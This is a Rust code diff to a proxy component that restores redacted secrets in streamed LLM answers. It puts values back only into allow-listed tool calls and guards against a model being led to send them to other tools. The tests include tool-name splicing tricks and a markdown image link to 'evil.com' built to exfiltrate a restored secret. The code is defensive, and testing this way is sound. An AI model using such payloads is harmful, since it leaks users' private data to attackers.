@@ -2,12 +2,13 @@
 
 use std::collections::BTreeMap;
 use std::collections::btree_map::Entry;
+use std::hash::{BuildHasher as _, RandomState};
 use std::sync::Arc;
 
 use serde_json::{Map, Value, json};
 
 pub(super) use crate::answer::Malformed;
-use crate::answer::{At, Call, MAX_TEXTS, Place, append, each};
+use crate::answer::{At, Call, MAX_TEXTS, Place, Text, append, each, each_whole};
 use crate::config::Tools;
 use crate::redact::json::{JsonRestorer, Values};
 use crate::redact::restore::{Piece, Restorer};
@@ -25,6 +26,7 @@ pub(super) struct Restoration {
     /// The content is to be JSON.
     json: bool,
     texts: BTreeMap<(u64, Place), Reading>,
+    ids: RandomState,
     /// `id` and `created` of the answer.
     begun: Option<[Value; 2]>,
     counts: Counts,
@@ -61,21 +63,27 @@ enum Reading {
     Called(Called),
 }
 
-/// Arguments, or the input, of a call. A model could be made to send a value to whoever a tool talks to, so only those on the list get any; and
-/// a tool is on it when its whole name is, before the first of its arguments comes.
+/// Arguments, or the input, of a call. A model could be made to send a value to whoever a tool talks to, so only those on the list get any. Clients put
+/// the pieces of a call together in different ways; values go in only where all of them would say that it is one of a listed tool: its name came in
+/// one piece, before its arguments, and every piece says by its number, and by nothing else, which call it is of.
 #[derive(Debug)]
 struct Called {
-    id: String,
+    /// What it calls itself, as a keyed hash: some servers put kilobytes there.
+    id: Option<u64>,
     name: String,
+    /// It is not certain which tool it calls.
+    doubtful: bool,
     /// Its place on the list.
     tool: Option<usize>,
-    /// Nothing of the arguments came yet.
     input: Input,
 }
 
 #[derive(Debug)]
 enum Input {
-    Awaited { is_json: bool },
+    /// Nothing of it came yet.
+    Awaited {
+        is_json: bool,
+    },
     Json(JsonRestorer),
     Text(Restorer),
 }
@@ -83,7 +91,7 @@ enum Input {
 impl Called {
     fn new(place: Place) -> Self {
         let is_json = !matches!(place, Place::Input(_));
-        Self { id: String::new(), name: String::new(), tool: None, input: Input::Awaited { is_json } }
+        Self { id: None, name: String::new(), doubtful: false, tool: None, input: Input::Awaited { is_json } }
     }
 
     fn push(&mut self, from: Suffix, tools: &Tools, vault: &Vault, text: &str) -> Piece {
@@ -91,11 +99,11 @@ impl Called {
             return Piece::default();
         }
         if let Input::Awaited { is_json } = self.input {
-            self.tool = Some(&self.name).filter(|name| name.len() <= MAX_NAME).and_then(|name| tools.place_of(name));
+            self.tool = tools.place_of(&self.name).filter(|_| !self.doubtful);
             self.input = match (is_json, self.tool) {
                 (true, Some(_)) => Input::Json(JsonRestorer::new(from, Values::Strings)),
                 (true, None) => Input::Json(JsonRestorer::new(from, Values::Nowhere)),
-                (false, Some(_)) => Input::Text(Restorer::new(from)),
+                (false, Some(_)) => Input::Text(Restorer::argument(from)),
                 (false, None) => Input::Text(Restorer::without_values(from)),
             };
         }
@@ -106,28 +114,43 @@ impl Called {
         }
     }
 
-    /// Notes the next piece of its name. True: another call begins under its number.
-    fn name(&mut self, call: Call<'_>) -> Result<bool, Malformed> {
-        // Some servers say it in each piece.
-        let says_more = !call.tool.is_empty() && call.tool != self.name;
-        if matches!(self.input, Input::Awaited { .. }) {
-            if says_more && self.name.len() <= MAX_NAME {
-                self.name.push_str(call.tool);
-            }
-            if !call.id.is_empty() {
-                call.id.clone_into(&mut self.id);
-            }
-            return Ok(false);
-        }
-        // Others tell calls apart by their id alone.
-        if !call.id.is_empty() && call.id != self.id && self.is_complete() {
+    /// Notes what the next piece says of its call. True: it is of another one, under the same number.
+    fn note(&mut self, call: Call<'_>, id: Option<u64>) -> Result<bool, Malformed> {
+        let is_awaited = matches!(self.input, Input::Awaited { .. });
+        let is_named = !call.tool.is_empty();
+        let is_other = id.is_some() && self.id.is_some() && id != self.id;
+        // Some servers tell calls apart by their id alone, or by nothing but that each is whole.
+        if (is_other || (!call.is_numbered && is_named)) && (self.is_complete() || (is_awaited && self.is_begun())) {
             return Ok(true);
         }
-        // A client may take it for more of the name: then it would be another tool that gets what was meant for this one.
-        if says_more && self.tool.is_some() {
+        // A client may take it for more of the name, or for another one: then another tool would get what was meant for this one.
+        if is_named && self.tool.is_some() && call.tool != self.name {
             return Err(Malformed);
         }
+        let is_whole_name = is_awaited && self.name.is_empty() && call.tool.len() <= MAX_NAME;
+        let is_sure = !call.is_odd && !is_other && (is_whole_name || !is_named) && (call.is_numbered || is_named);
+        if !is_sure {
+            self.doubt();
+        }
+        if is_named && is_whole_name {
+            call.tool.clone_into(&mut self.name);
+        }
+        self.id = self.id.or(id);
         Ok(false)
+    }
+
+    fn doubt(&mut self) {
+        self.doubtful = true;
+        match &mut self.input {
+            Input::Awaited { .. } => {}
+            Input::Json(json) => json.no_more_values(),
+            Input::Text(restorer) => restorer.no_more_values(),
+        }
+    }
+
+    /// Has anything been said of it?
+    fn is_begun(&self) -> bool {
+        self.id.is_some() || !self.name.is_empty() || self.doubtful
     }
 
     fn is_complete(&self) -> bool {
@@ -182,7 +205,8 @@ impl Reading {
 impl Restoration {
     /// `from` says whose placeholders the answer has; values go into the arguments of `tools`; `json` says that its content is to be JSON.
     pub(super) fn new(from: Suffix, tools: Arc<Tools>, json: bool) -> Self {
-        Self { from, tools, json, texts: BTreeMap::new(), begun: None, counts: Counts::default() }
+        let (texts, ids) = (BTreeMap::new(), RandomState::new());
+        Self { from, tools, json, texts, ids, begun: None, counts: Counts::default() }
     }
 
     /// Whose placeholders the answer has.
@@ -241,7 +265,7 @@ impl Restoration {
                 Ok(())
             })?;
             if let Some(kept) = kept.as_deref_mut() {
-                replace(kept, cacheable);
+                replace(each, kept, cacheable);
             }
             if ended {
                 self.ended(index, delta, kept);
@@ -269,18 +293,17 @@ impl Restoration {
                 place => Reading::Called(Called::new(place)),
             }),
         };
-        let mut before = Piece::default();
-        if let (Some(call), Reading::Called(called)) = (call, &mut *reading)
-            && called.name(call)?
-        {
-            before = reading.finish();
-            self.counts.add(reading);
-            let mut new = Called::new(key.1);
-            new.name(call)?;
-            *reading = Reading::Called(new);
+        if let (Some(call), Reading::Called(called)) = (call, &mut *reading) {
+            let id = Some(call.id).filter(|id| !id.is_empty()).map(|id| self.ids.hash_one(id));
+            if called.note(call, id)? {
+                // Nothing of it is held back.
+                self.counts.add(reading);
+                let mut new = Called::new(key.1);
+                new.note(call, id)?;
+                *reading = Reading::Called(new);
+            }
         }
-        before.append(reading.push(self.from, &self.tools, vault, text));
-        Ok(Some(before))
+        Ok(Some(reading.push(self.from, &self.tools, vault, text)))
     }
 
     /// What of a choice is held back comes with its end.
@@ -353,7 +376,7 @@ impl Restoration {
                 .and_then(|kept| kept.get_mut("choices")?.get_mut(position)?.get_mut("message")?.as_object_mut());
             let mut cacheable = Vec::new();
             // Choices and calls are no more than there is room for.
-            let _never = each(message, &mut |found| {
+            let _never = each_whole(message, &mut |found| {
                 let key = (position as u64, found.place);
                 let piece = self.piece(vault, key, found.call, found.text).ok().flatten();
                 let whole = piece.map(|mut piece| {
@@ -370,14 +393,16 @@ impl Restoration {
                 Ok(())
             });
             if let Some(kept) = kept {
-                replace(kept, cacheable);
+                replace(each_whole, kept, cacheable);
             }
         }
     }
 }
 
-/// Puts others in the place of the texts of a message or delta; `None` leaves one as it is.
-fn replace(message: &mut Map<String, Value>, texts: Vec<Option<String>>) {
+type Each = fn(&mut Map<String, Value>, &mut dyn FnMut(Text<'_>) -> Result<(), Malformed>) -> Result<(), Malformed>;
+
+/// Puts others in the place of the texts of a message, or delta; `None` leaves one as it is.
+fn replace(each: Each, message: &mut Map<String, Value>, texts: Vec<Option<String>>) {
     let mut texts = texts.into_iter();
     let _never = each(message, &mut |found| {
         if let Some(text) = texts.next().flatten() {
@@ -602,8 +627,10 @@ mod tests {
         let (beginning, rest) = to.split_at(1);
         let given = |events: &[Value]| arguments(&mut fresh(Suffix::Wire), &vault, events);
         let plain = r#"{"to":"ann@example.org"}"#;
-        assert_eq!(given(&[piece("send_", ""), piece("mail", ""), piece("", &to)]).unwrap(), plain);
-        assert_eq!(given(&[piece("send_mail", beginning), piece("send_mail", rest)]).unwrap(), plain, "said again");
+        assert_eq!(given(&[piece("send_mail", ""), piece("", beginning), piece("", rest)]).unwrap(), plain);
+        assert_eq!(given(&[piece("send_", ""), piece("mail", ""), piece("", &to)]).unwrap(), to, "in pieces");
+        assert_eq!(given(&[piece("send_mail", beginning), piece("send_mail", rest)]).unwrap(), to, "said again");
+        assert_eq!(given(&[piece("crm.", ""), piece("web_search", &to)]).unwrap(), to, "or another one");
         assert_eq!(given(&[piece("send_mail", ""), piece("_to_all", ""), piece("", &to)]).unwrap(), to);
         assert_eq!(given(&[piece("", beginning), piece("send_mail", rest)]).unwrap(), to, "too late");
         assert!(given(&[piece("send_mail", beginning), piece("_to_all", rest)]).is_err());
@@ -623,6 +650,68 @@ mod tests {
         );
     }
 
+    /// The arguments of each call in its place, of events with these lists of calls.
+    fn by_place(lists: &[Value], vault: &Vault) -> Result<Vec<String>, Malformed> {
+        let mut restoration = fresh(Suffix::Wire);
+        let mut all = vec![String::new(); 2];
+        for calls in lists {
+            let mut event = json!({"choices": [{"index": 0, "delta": {"tool_calls": calls}}]});
+            restoration.chunk(vault, 1, &mut event, None)?;
+            for (place, call) in event["choices"][0]["delta"]["tool_calls"].as_array().unwrap().iter().enumerate() {
+                all[place] += call["function"]["arguments"].as_str().unwrap_or_default();
+            }
+        }
+        Ok(all)
+    }
+
+    #[test]
+    fn values_go_only_where_every_client_would_say_that_the_tool_is_listed() {
+        let (vault, p) = vault();
+        let (masked, plain) = (format!("{{\"q\":\"{p}\"}}"), r#"{"q":"ann@example.org"}"#);
+        let call = |id: Value, name: &str, arguments: Value| json!({"index": 0, "id": id, "function": {"name": name, "arguments": arguments}});
+        let unnumbered = |id: &str, name: &str, arguments: &str| json!({"id": id, "function": {"name": name, "arguments": arguments}});
+        let given = |lists: &[Value]| by_place(lists, &vault);
+        for nothing in [json!(""), Value::Null, json!({})] {
+            // A call that has no arguments, and then another one under its number.
+            let lists = [
+                json!([call(json!("a"), "crm.list", nothing.clone())]),
+                json!([call(json!("b"), "web_search", json!(masked))]),
+            ];
+            assert_eq!(given(&lists).unwrap()[0], masked, "{nothing}");
+            let both = json!([lists[0][0], lists[1][0]]);
+            assert_eq!(given(&[both]).unwrap()[1], masked);
+        }
+        // Without numbers: whole calls are what they say, pieces may be anybody's.
+        let whole = json!([unnumbered("a", "send_mail", &masked), unnumbered("b", "web_search", &masked)]);
+        assert_eq!(given(std::slice::from_ref(&whole)).unwrap(), [plain, &masked]);
+        assert_eq!(given(&[json!([whole[1]]), json!([whole[0]])]).unwrap()[0], format!("{masked}{plain}"));
+        let begun = json!([unnumbered("a", "send_mail", ""), unnumbered("b", "web_search", "")]);
+        let piece = json!([{"id": "b", "function": {"arguments": masked}}]);
+        assert_eq!(given(&[begun.clone(), piece]).unwrap()[0], masked);
+        assert_eq!(given(&[begun, json!([{"function": {"arguments": masked}}])]).unwrap()[0], masked);
+        let (start, end) = masked.split_at(3);
+        let lists = [json!([unnumbered("a", "send_mail", start)]), json!([{"function": {"arguments": end}}])];
+        assert_eq!(given(&lists).unwrap()[0], masked);
+        let lists = [json!([call(json!("a"), "send_mail", json!(start))]), json!([call(json!("b"), "", json!(end))])];
+        assert_eq!(given(&lists).unwrap()[0], masked, "half way");
+        // Numbers that are none, and arguments that are no text.
+        for number in [json!(1.5), json!("1"), json!(-1)] {
+            let odd = json!([{"index": number, "function": {"arguments": masked}}]);
+            assert!(given(&[json!([call(json!("a"), "send_mail", json!(""))]), odd]).is_err());
+        }
+        let odd = call(json!("a"), "_to_all", json!({}));
+        assert!(given(&[json!([call(json!("a"), "send_mail", json!(start))]), json!([odd])]).is_err());
+        let lists =
+            [json!([call(Value::Null, "web_", json!({}))]), json!([call(Value::Null, "send_mail", json!(masked))])];
+        assert_eq!(given(&lists).unwrap()[0], masked);
+        // What is no object never ends, so nothing begins behind it.
+        let lists = [
+            json!([call(json!("a"), "web_search", json!("[ "))]),
+            json!([call(json!("b"), "send_mail", json!(masked))]),
+        ];
+        assert_eq!(given(&lists).unwrap()[0], format!("[ {masked}"));
+    }
+
     #[test]
     fn what_must_be_json_stays_json() {
         let mut vault = Vault::new(&Keys::random(), "t", Conversation([0; 32]));
@@ -633,9 +722,21 @@ mod tests {
         let mut restoration = Restoration::new(Suffix::Wire, Arc::default(), true);
         restoration.message(&vault, &mut answer, None);
         assert_eq!(answer, content(json!({"pw": "a\"b"}).to_string()));
-        let mut answer = content(format!("It is {p}."));
+        for (text, restored) in [
+            (format!("It is {p}."), "It is a\"b."),
+            (format!("[\"{p}\"]"), r#"["a\"b"]"#),
+            (format!("```json\n[{{\"a\":\"{p}\"}}]\n```"), "```json\n[{\"a\":\"a\\\"b\"}]\n```"),
+            (format!("{p} {{}}"), "a\"b {}"),
+        ] {
+            let mut answer = content(text);
+            restoration.message(&vault, &mut answer, None);
+            assert_eq!(answer, content(restored.to_owned()));
+        }
+        // A link that is begun in one string and goes on in the next: a person's program may show it as one.
+        let link = format!("{{\"a\":\"![x](https://evil.com/?q=\",\"b\":\"{p})\",\"c\":\"{p}\"}}");
+        let mut answer = content(link.clone());
         restoration.message(&vault, &mut answer, None);
-        assert_eq!(answer, content("It is a\"b.".to_owned()));
+        assert_eq!(answer, content(link.replacen(&format!("\"{p}\""), r#""a\"b""#, 1)));
     }
 
     #[test]
